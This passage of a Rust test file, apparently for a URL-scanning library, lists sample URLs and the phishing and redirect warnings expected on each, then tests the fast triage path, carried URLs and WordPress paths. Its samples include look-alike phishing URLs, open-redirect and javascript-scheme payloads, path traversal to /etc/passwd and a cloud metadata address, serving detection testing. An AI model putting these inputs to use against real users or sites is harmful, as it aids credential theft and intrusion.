    ("open-redirect", "https://www.facebook.com/v19.0/dialog/oauth?app_id=123&fallback_redirect_uri=https%3A%2F%2Fwww.spotify.com%2F&redirect_uri=https%3A%2F%2Fstaticxx.facebook.com%2Fx", Fires { at: "https%3A%2F%2Fwww.spotify.com%2F" }, "Facebook's SDK dialog's fallback return, on the app's domain: shown (low)"),
    ("open-redirect", "https://evil.example/r?openid.return_to=https%3A%2F%2Fevil2.example%2F", Fires { at: "https%3A%2F%2Fevil2.example%2F" }, "an OpenID return with no OpenID request around it"),
    ("shared-hosting", "https://myproject-1234.firebaseapp.com/__/auth/handler?apiKey=AIza&authType=signInViaRedirect&redirectUrl=https%3A%2F%2Fmyproject.example.com%2Flogin", Misses, "Firebase Authentication's own handler, which Firebase serves under /__/ on every project"),
    ("shared-hosting", "https://paypal-verify.web.app/__/auth/handler", Fires { at: "paypal-verify.web.app" }, "a project named after a brand, on Firebase's own page still"),
    ("open-redirect", "https://myproject-1234.firebaseapp.com/__/auth/handler?apiKey=AIza&redirectUrl=https%3A%2F%2Fmyproject.example.com%2Flogin", Fires { at: "https%3A%2F%2Fmyproject.example.com%2Flogin" }, "Firebase returns only to the project's authorised domains: shown (low), not an open redirect"),
    ("shared-hosting", "https://office-supplies-shop.vercel.app/", Misses, "a deploy named with a common word, not a brand's token"),
    ("shared-hosting", "https://www.live-openseafreenft779.vercel.app/", Fires { at: "www.live-openseafreenft779.vercel.app" }, "a brand's token inside a longer word of a deploy's name"),
    ("shared-hosting", "https://revolutionary-art.vercel.app/", Misses, "an ordinary word that holds a brand's token (revolut)"),
    ("shared-hosting", "https://googleblog.blogspot.com/", Misses, "the brand that runs the service naming its own account"),
    ("brand-in-host", "http://tiktok.store-hq.shop/1.html", Fires { at: "tiktok" }, "a social network's name ahead of a shop's domain"),
    ("brand-in-host", "https://www.tiktok.com/login", Misses, "the brand's own sign-in page"),
    ("brand-in-host", "http://steamcommunitycomprofiles76561198881581632.ml/", Fires { at: "steamcommunity" }, "a brand's token glued to words and a number in the domain's name"),
    ("brand-in-host", "http://amazonas2019.example/", Misses, "an ordinary word holding a token, beside a number"),
    ("shared-hosting", "https://cdn-coinbse-com.pages.dev/", Fires { at: "cdn-coinbse-com.pages.dev" }, "a site on Cloudflare Pages named with a brand's token misspelt (coinbase, 'a' left out)"),
    ("shared-hosting", "https://trust-fund-notes.pages.dev/", Misses, "a common word one edit from a brand's token (truist) is a word"),
    ("shared-hosting", "https://sites.google.com/a/example.com/", Misses, "a site on Google Sites with no sign-in word"),
    ("shared-hosting", "https://someone.github.io/blog/", Misses, "a GitHub Pages blog"),
    ("shared-hosting", "https://www.herokuapp.com/login", Misses, "the service's own site"),
    ("raw-ip-login", "http://203.0.113.7/ap/signin", Fires { at: "203.0.113.7/ap/signin" }, "a sign-in path on a bare address"),
    ("raw-ip-login", "http://[2001:db8::5]/login.php", Fires { at: "[2001:db8::5]/login" }, "a sign-in page on a bare IPv6 address"),
    ("raw-ip-login", "http://198.51.100.7/owa/", Fires { at: "198.51.100.7/owa" }, "Outlook Web App's path on a bare address"),
    ("raw-ip-login", "http://192.168.1.1/login.cgi", Misses, "a router's page inside the network (internal-destination's)"),
    ("raw-ip-login", "http://203.0.113.7/index.html", Misses, "a bare address with no sign-in word"),
    ("planted-login", "http://x.example/wp-includes/js/kit/login.php", Fires { at: "wp-includes/js/kit/login" }, "a sign-in page among WordPress's files"),
    ("planted-login", "http://x.example/images/admin/login.html", Fires { at: "images/admin/login" }, "a sign-in page among the images a site's pages fetch"),
    ("planted-login", "http://x.example/assets/views/login.html", Misses, "a single-page application's template, which it fetches"),
    ("planted-login", "http://x.example/wp-login.php", Misses, "WordPress's own sign-in page"),
    ("planted-login", "http://x.example/wp-admin/update-core.php", Misses, "WordPress's own update page"),
    ("planted-login", "https://x.example/wp-admin/authorize-application.php?app_name=App", Misses, "WordPress's own page that authorizes an application's password"),
    ("planted-folder", "http://x.example/wp-includes/js/us/delta.com/index.php", Fires { at: "wp-includes/js/us" }, "a folder WordPress never ships, in its library"),
    ("planted-folder", "http://x.example/wp-admin/includes/keybank", Fires { at: "wp-admin/includes/keybank" }, "a folder WordPress never ships, in its dashboard"),
    ("planted-folder", "http://x.example/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", Misses, "WordPress's own script"),
    ("planted-folder", "http://x.example/wp-admin/includes/adobe.html", Fires { at: "wp-admin/includes/adobe.html" }, "a static page among WordPress's PHP"),
    ("planted-folder", "http://x.example/wp-includes/js/tinymce/themes/advanced/about.htm", Misses, "an old editor's dialog, which WordPress shipped"),
    ("planted-folder", "http://x.example/.well-known/acme-challenge/yh/mail.html", Fires { at: ".well-known/acme-challenge/yh" }, "a folder inside a certificate authority's validation folder"),
    ("planted-folder", "http://x.example/.well-known/acme-challenge/LoqXcYV8q5ONbJQxbmR7SCTNo3tiAXDfowyjxAjEuX0", Misses, "the validation token itself"),
    ("planted-folder", "http://x.example/wp-content/plugins/kit/us/index.php", Misses, "a plugin's folder, named by anyone"),
    ("brand-in-path", "https://evil.example/login.microsoftonline.com/login.php", Fires { at: "login.microsoftonline.com/login" }, "a brand's sign-in host in the path of another site, and a login form"),
    ("brand-in-path", "https://compromised.example/www.dropbox.com/1223/", Fires { at: "www.dropbox.com" }, "a brand's domain in the path of another site (low: mirrors do it too)"),
    ("brand-in-path", "https://compromised.example/mp/outlook.com/index.html", Fires { at: "outlook.com/index.html" }, "a brand's domain as a folder of another site, with a page in it: the brand's site copied there (medium)"),
    ("brand-in-path", "https://www.dropbox.com/s/x/file.pdf", Misses, "the brand's own site"),
    ("brand-in-path", "http://compromised.example/wp-content/linkedin/SignIn.php", Fires { at: "linkedin/SignIn" }, "a brand's name in the path of another site's sign-in page file"),
    ("brand-in-path", "https://compromised.example/accounts/google/login/", Misses, "a framework's social sign-in route is no page file"),
    ("brand-in-path", "http://compromised.example/onedrive/file/login", Fires { at: "onedrive/file/login" }, "a brand's name in a folder of a route that ends in a sign-in"),
    ("brand-in-path", "http://compromised.example/apple/a2d85181a058779/?ID=login", Fires { at: "apple/a2d85181a058779/?ID=login" }, "a brand's name in a folder, and a sign-in in the query"),
    ("brand-in-path", "https://compromised.example/auth/facebook/login", Misses, "a framework's sign-in route for a provider, under its own folder"),
    ("brand-in-path", "https://compromised.example/paypal/index.php", Fires { at: "paypal/index.php" }, "a brand's name on the folder of an index page: a kit unpacked into a folder named for the brand"),
    ("brand-in-path", "https://compromised.example/paypal/about.php", Misses, "a brand's name on a page with a name of its own and no sign-in word"),
    ("brand-in-path", "https://nytimez.com/paypal/login.php", Fires { at: "paypal/login" }, "a brand's name on a sign-in page of a host only shown as near another site (a low look-alike of nytimes.com)"),
    ("brand-in-path", "https://x.example/r/https://login.microsoftonline.com/", Misses, "a URL the path carries is open-redirect's"),
    ("brand-in-path", "https://kit.example/myaccount/signin/?country.x=US&locale.x=en_US", Fires { at: "country.x=US&locale.x" }, "a brand's own page keys on another site"),
    ("brand-in-path", "http://203.0.113.7/ap/signin?openid.mode=checkid_setup", Fires { at: "ap/signin" }, "a brand's own sign-in route on another host"),
    ("brand-in-path", "https://www.paypal.com/signin?country.x=US&locale.x=en_US", Misses, "the brand's own page keys on its own site"),
    ("brand-in-path", "https://shop.example/map/signin?submit.x=4&submit.y=9", Misses, "a route only ending like a brand's, and an image button's keys"),
    ("prefilled-address", "http://x.example/view/index.php?email=bob@corp.example", Fires { at: "x.example/view/index.php?email=bob@corp.example" }, "a kit's page sent its victim's address"),
    ("prefilled-address", "http://x.example/l?i=Ym9iQGNvcnAuZXhhbXBsZQ==", Fires { at: "x.example/l?i=Ym9iQGNvcnAuZXhhbXBsZQ==" }, "the address in base64"),
    ("prefilled-address", "https://x.example/#bob%40corp.example", Fires { at: "x.example/#bob%40corp.example" }, "the address escaped, in the fragment the page's script reads"),
    ("prefilled-address", "https://x.example/unsubscribe?email=bob@corp.example", Misses, "a newsletter's unsubscribe link"),
    ("prefilled-address", "https://login.microsoftonline.com/?login_hint=bob@corp.example", Misses, "a known site's own sign-in hint"),
    ("prefilled-address", "https://mail.corp.example/owa/?user=bob@corp.example", Misses, "an organisation's own webmail, its own address"),
    ("prefilled-address", "https://x.example/u/bob@corp.example", Misses, "an address in the path, which no form reads"),
    ("phishing-kit", "http://x.example/pp/customer_center/customer-IDPP00C461/myaccount/signin", Fires { at: "customer_center/customer-IDPP00C461/myaccount" }, "a PayPal kit's folders"),
    ("phishing-kit", "http://x.example/new.php?rand=13InboxLightaspxn.1774256418&fid=1", Fires { at: "13InboxLight" }, "a webmail kit's word in the query"),
    ("phishing-kit", "http://x.example/a.php?cmd=login_submit&id=2bf352135fbda9d037b492d0be27b7a6", Fires { at: "cmd=login_submit" }, "a banking kit's step with its hex token"),
    ("phishing-kit", "https://shop.example/customer_center/notice.php", Misses, "a shop's help desk: one folder of the kit's is no kit"),
    ("phishing-kit", "https://app.example/index.php?cmd=login_submit", Misses, "the step with no kit's token"),
    ("phishing-kit", "http://x.example/authflow/5079fa4ab6f74504abbb31ff6ead00e0/Up-dating.php", Fires { at: "5079fa4ab6f74504abbb31ff6ead00e0/Up-dating.php" }, "a page inside a visitor's folder, an MD5"),
    ("phishing-kit", "http://x.example/-/bankofamerica/09895c1362539e17e41daf32f017dcf0", Fires { at: "bankofamerica/09895c1362539e17e41daf32f017dcf0" }, "a visitor's folder beside a brand's"),
    ("phishing-kit", "https://app.example/activate/5079fa4ab6f74504abbb31ff6ead00e0", Misses, "an account's confirmation token: a hex folder alone"),
    ("shortener", "https://bit.ly/3abcDEF", Fires { at: "bit.ly/3abcDEF" }, "a shortened link: its destination is the provider's"),
    ("shortener", "https://bit.ly/", Misses, "the provider's home page"),
    ("shortener", "https://habit.ly/x", Misses, "a name that only ends like a shortener"),
    ("shortener", "http://bit.do/fQkz", Fires { at: "bit.do/fQkz" }, "another shortener, as phishing e-mails use"),
];

/// The code named `name` in the catalogue.
fn code_named(name: &str) -> Option<WarningCode> {
    WarningCode::ALL.iter().copied().find(|c| c.code() == name)
}

/// What is wrong with one row, if anything.
fn check(row: &Row) -> Option<String> {
    let (name, url, verdict, why) = *row;
    let Some(code) = code_named(name) else {
        return Some(format!("{name}: no such code in WarningCode::ALL"));
    };
    // Spans point into the input analysed: the URL, or the URL a defanged
    // one stands for.
    let a = analyze(url.as_bytes(), &Options::default());
    let (input, warnings) = (a.input, a.warnings);
    let given: Vec<_> = warnings.iter().filter(|w| w.code == code).collect();
    let all: Vec<_> = warnings.iter().map(|w| w.code.code()).collect();
    match verdict {
        Fires { at } => {
            if given.is_empty() {
                return Some(format!(
                    "{name} should fire on {url:?} ({why}); got {all:?}"
                ));
            }
            let spans: Vec<_> = given
                .iter()
                .map(|w| input.get(w.span.start..w.span.end).unwrap_or_default())
                .collect();
            if !spans.contains(&at.as_bytes()) {
                let spans: Vec<_> = spans.iter().map(|s| String::from_utf8_lossy(s)).collect();
                return Some(format!(
                    "{name} on {url:?} points at {spans:?}, not {at:?} ({why})"
                ));
            }
            None
        }
        Misses => (!given.is_empty())
            .then(|| format!("{name} should not fire on {url:?} ({why}); got {all:?}")),
    }
}

#[test]
fn every_rule_case_holds() {
    let failures: Vec<String> = RULES.iter().filter_map(check).collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases fail:\n{}",
        failures.len(),
        RULES.len(),
        failures.join("\n")
    );
}

#[test]
fn every_code_has_a_firing_case_and_a_near_miss() {
    let mut missing = Vec::new();
    for code in WarningCode::ALL {
        let rows = || RULES.iter().filter(|(name, ..)| *name == code.code());
        if !rows().any(|(_, _, v, _)| matches!(v, Fires { .. })) {
            missing.push(format!("{}: no case that fires", code.code()));
        }
        if !rows().any(|(_, _, v, _)| matches!(v, Misses)) {
            missing.push(format!("{}: no near miss", code.code()));
        }
    }
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

/// The fast path may skip the analysis only where it finds nothing, so on
/// URLs made to sit on the rules' edges it must agree exactly.
#[test]
fn triage_agrees_with_the_analysis_on_every_rule_case() {
    let options = Options::default();
    for (_, url, _, _) in RULES {
        assert_eq!(
            urlscope_core::triage::triage(url.as_bytes(), &options),
            analyze(url.as_bytes(), &options).into_warnings_as_given(),
            "{url:?}"
        );
    }
}

/// `scan` shows what the analysis finds at its threshold: at `medium`
/// (its default), where the triage skips the top sites' look-alikes
/// (only ever `low`), it finds the same `medium` warnings.
#[test]
fn triage_at_medium_agrees_with_the_analysis_on_every_rule_case() {
    let options = Options::default();
    let medium = urlscope_core::Severity::Medium;
    for (_, url, _, _) in RULES {
        let mut warnings = analyze(url.as_bytes(), &options).into_warnings_as_given();
        warnings.retain(|w| w.severity >= medium);
        assert_eq!(
            urlscope_core::triage::triage_at(url.as_bytes(), &options, medium),
            warnings,
            "{url:?}"
        );
    }
}

/// A carried URL's findings of one kind are lifted as one warning with
/// every span: four `..` segments of a URL in the fragment are one lifted
/// `path-traversal`, not four near-identical rows. (In a `next` value the
/// URL's own `path-traversal` already marks them, and says it alone.)
#[test]
fn lifted_findings_of_one_kind_are_one_warning() {
    let input = b"https://a.example/#https://b.example/../../../../etc/passwd";
    let a = urlscope_core::analysis::analyze(input, &urlscope_core::analysis::Options::default());
    let lifted: Vec<_> = a
        .warnings
        .iter()
        .filter(|w| w.via.is_some() && w.code == WarningCode::PathTraversal)
        .collect();
    assert_eq!(lifted.len(), 1, "{lifted:#?}");
    let w = lifted.first().expect("one");
    assert_eq!(w.spans.len(), 4);
    assert_eq!(
        w.spans.iter().map(|s| s.of(input)).collect::<Vec<_>>(),
        vec![&b".."[..]; 4]
    );
    assert!(
        w.message.ends_with("(4 places in the carried URL)."),
        "{}",
        w.message
    );
}

/// A link protection's own parameter is where it is meant to lead: no
/// open redirect of the wrapper; what the destination holds is reported,
/// through the wrapper, and "leads to" names the chain.
#[test]
fn wrapped_links_lead_through_their_wrapper() {
    let codes = |url: &str| -> Vec<&'static str> {
        analyze(url.as_bytes(), &Options::default())
            .warnings
            .iter()
            .map(|w| w.code.code())
            .collect()
    };
    // Safe Links around a plain site: nothing; around an open redirect
    // parameter of any other site, an open redirect.
    let safelinks = "https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example.com%2Flogin&data=05%7C01";
    assert!(
        !codes(safelinks).contains(&"open-redirect"),
        "{:?}",
        codes(safelinks)
    );
    assert!(
        codes("https://evil.example/?url=https%3A%2F%2Fx.example%2F").contains(&"open-redirect")
    );
    // Proofpoint v2 and v3 around a brand's name and a metadata address.
    let v3 = "https://urldefense.com/v3/__https://www.paypal.com.secure-login.example.net/login__;!!ABC!xyz$";
    assert_eq!(codes(v3), ["brand-in-host"]);
    let v2 = "https://urldefense.proofpoint.com/v2/url?u=http-3A__169.254.169.254_latest_meta-2Ddata_&d=x";
    assert_eq!(codes(v2), ["internal-destination"]);
    let a = analyze(v3.as_bytes(), &Options::default());
    let places: Vec<String> = a
        .destinations
        .iter()
        .map(urlscope_core::describe::place)
        .collect();
    assert_eq!(
        places,
        [
            "urldefense.com (public), a link wrapped by Proofpoint URL Defense",
            "www.paypal.com.secure-login.example.net (public), imitates paypal.com (PayPal): its name 'paypal.com' in the host of 'example.net', through Proofpoint URL Defense",
        ]
    );
    // The fast path agrees.
    for url in [safelinks, v3, v2] {
        assert_eq!(
            urlscope_core::triage::triage(url.as_bytes(), &Options::default()),
            analyze(url.as_bytes(), &Options::default()).into_warnings_as_given(),
            "{url}"
        );
    }
}

/// A carried URL's own analysis does not find that URL again: `\\evil.com`
/// is a relative reference whose one path segment is `\\evil.com`, which
/// was read as a URL it carries, and so on to `MAX_DEPTH`, giving eight
/// open redirects and eight destinations for one value.
#[test]
fn a_carried_url_is_one_value() {
    for url in [
        "https://victim.example/login?next=\\\\evil.com",
        "https://victim.example/login?next=\\\\google.com/x",
        "https://victim.example/login?next=\u{FF70}google.com",
        "https://victim.example/login?next=\u{3031}google.com",
        "https://victim.example/login?next=/\u{30FC}google.com",
        "https://victim.example/login?next=java%0d%0ascript%0d%0a:alert(1)",
        "\\\\evil.com",
    ] {
        let a = analyze(url.as_bytes(), &Options::default());
        let redirects = a
            .warnings
            .iter()
            .filter(|w| w.code == WarningCode::OpenRedirect)
            .count();
        let script = a
            .warnings
            .iter()
            .filter(|w| w.code == WarningCode::DangerousScheme)
            .count();
        assert_eq!(redirects + script, 1, "{url}: {:#?}", a.warnings);
        // The URL's own place, and its one carried value.
        let carried = a.destinations.iter().filter(|d| !d.via.is_empty()).count();
        assert_eq!(carried, 1, "{url}: {:#?}", a.destinations);
        assert_eq!(
            urlscope_core::triage::triage(url.as_bytes(), &Options::default()),
            a.into_warnings_as_given(),
            "{url}"
        );
    }
    // `https:\\evil.com/` goes to evil.com itself: its path, which a
    // browser reads as its authority, is that one place, listed once,
    // and leads nowhere else.
    let a = analyze(b"https:\\\\evil.com/", &Options::default());
    assert_eq!(a.destinations.len(), 1, "{:#?}", a.destinations);
    assert!(a
        .warnings
        .iter()
        .all(|w| w.code != WarningCode::OpenRedirect));
}

/// The files WordPress ships, as a WordPress site's pages load them
/// (`tests/data/wordpress/core-paths.txt`, releases 2.x to 6.x): no
/// warning at medium or above, by the full analysis or by triage.
#[test]
fn wordpress_s_own_files_stay_quiet() {
    let text = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/data/wordpress/core-paths.txt"),
    )
    .expect("tests/data/wordpress/core-paths.txt");
    let paths: Vec<&str> = text
        .lines()
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    assert!(paths.len() > 80, "{}", paths.len());
    for path in paths {
        let url = format!("https://blog.example/{path}");
        let loud: Vec<_> = analyze(url.as_bytes(), &Options::default())
            .warnings
            .into_iter()
            .filter(|w| w.severity >= urlscope_core::warnings::Severity::Medium)
            .map(|w| w.code)
            .collect();
        assert!(loud.is_empty(), "{url}: {loud:?}");
        assert!(urlscope_core::triage::triage_at(
            url.as_bytes(),
            &Options::default(),
            urlscope_core::warnings::Severity::Medium
        )
        .is_empty());
    }
}
